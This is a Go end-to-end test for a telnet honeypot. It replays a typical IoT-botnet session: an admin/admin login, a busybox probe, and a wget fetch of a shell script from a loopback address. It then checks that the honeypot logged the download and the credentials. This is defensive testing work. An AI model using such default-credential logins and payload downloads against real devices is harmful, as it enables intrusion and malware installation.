package e2e

import (
	"bytes"
	"io"
	"net"
	"net/url"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestRealTelnetClient drives the system's telnet client (netkit/inetutils,
// installed by scripts/deps.sh) against the honeypot: a real client's option
// negotiation must not stall the dialogue, and what it typed is recorded.
func TestRealTelnetClient(t *testing.T) {
	bin, err := exec.LookPath("telnet")
	if err != nil {
		t.Skip("no telnet client installed (scripts/deps.sh installs it)")
	}
	srv := startServer(t, t.TempDir())
	host, port, _ := net.SplitHostPort(srv.telnet(0))
	cmd := exec.Command(bin, host, port)
	stdin, _ := cmd.StdinPipe()
	var mu sync.Mutex
	var out bytes.Buffer
	pr, pw := io.Pipe()
	cmd.Stdout, cmd.Stderr = pw, pw
	go func() {
		buf := make([]byte, 4096)
		for {
			n, err := pr.Read(buf)
			mu.Lock()
			out.Write(buf[:n])
			mu.Unlock()
			if err != nil {
				return
			}
		}
	}()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer cmd.Process.Kill()
	seen := 0 // output already matched
	expect := func(want string) {
		t.Helper()
		waitFor(t, "telnet client output "+want, 15*time.Second, func() bool {
			mu.Lock()
			defer mu.Unlock()
			if i := strings.Index(out.String()[seen:], want); i >= 0 {
				seen += i + len(want)
				return true
			}
			return false
		})
	}
	send := func(s string) { io.WriteString(stdin, s+"\n") }

	expect("login: ")
	send("admin")
	expect("Password: ")
	send("admin")
	expect("# ")
	send("/bin/busybox ECCHI")
	expect("ECCHI: applet not found")
	send("wget http://127.0.0.1:9/real-client.sh")
	expect("# ")
	send("exit")
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case <-done:
	case <-time.After(15 * time.Second):
		t.Fatal("telnet client still connected after exit")
	}
	pw.Close()

	var id string
	waitFor(t, "the real client's download", 15*time.Second, func() bool {
		for _, e := range srv.events(url.Values{"kind": {"file.download"}}) {
			if e.URL == "http://127.0.0.1:9/real-client.sh" {
				id = e.Session
				return true
			}
		}
		return false
	})
	s := srv.waitClosed(id)
	if len(s.Credentials) != 1 || s.Credentials[0].Username != "admin" || !s.Credentials[0].Success {
		t.Errorf("credentials %+v", s.Credentials)
	}
}
